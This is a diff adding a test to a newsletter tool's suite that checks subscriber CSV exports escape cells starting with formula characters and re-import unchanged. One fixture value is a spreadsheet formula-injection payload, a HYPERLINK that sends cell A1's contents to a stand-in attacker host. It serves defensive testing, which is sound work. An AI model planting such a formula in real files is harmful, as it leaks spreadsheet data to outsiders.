@@ -155,3 +155,39 @@ def test_own_csv_round_trips_and_never_overrules_an_unsubscribe(site, tmp_path):
     bad.write_text("name,address\nx,y\n")
     failed = run_masthead("subscribers", "import", bad, site=site, check=False)
     assert failed.code == 1 and "bad.csv:1: no 'email' column" in failed.stderr
+
+
+def test_exported_cells_never_run_as_spreadsheet_formulas_and_import_back_unchanged(
+        sqlite_site, tmp_path):
+    names = {
+        "formula@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "plus@example.org": "+1-555-0100",
+        "minus@example.org": "-Anonymous-",
+        "at@example.org": "@handle",
+        "quote@example.org": "'t Hooft",  # an apostrophe that escapes nothing stays
+        "quoted@example.org": "'=already quoted",
+        "plain@example.org": "Ada Lovelace",
+    }
+    own = tmp_path / "list.csv"
+    with own.open("w", encoding="utf-8", newline="") as f:
+        out = csv.writer(f)
+        out.writerow(["email", "name"])
+        out.writerows(names.items())
+    run_masthead("subscribers", "import", own, "--confirmed", site=sqlite_site)
+    exported = tmp_path / "out.csv"
+    run_masthead("subscribers", "export", exported, site=sqlite_site)
+    with exported.open(encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    risky = ("=", "+", "-", "@", "\t", "\r")
+    assert all(not cell.startswith(risky) for row in rows for cell in row), rows
+    written = {row[0]: row[1] for row in rows[1:]}
+    assert written["formula@example.org"] == "'" + names["formula@example.org"]
+    assert written["quote@example.org"] == "'t Hooft"
+    assert written["plain@example.org"] == "Ada Lovelace"
+    # Masthead's own export, imported into another site, gives every name back as it was.
+    other = make_site(tmp_path / "other")
+    run_masthead("subscribers", "import", exported, site=other)
+    again = tmp_path / "again.csv"
+    run_masthead("subscribers", "export", again, site=other)
+    with again.open(encoding="utf-8") as f:
+        assert {row["email"]: row["name"] for row in csv.DictReader(f)} == written
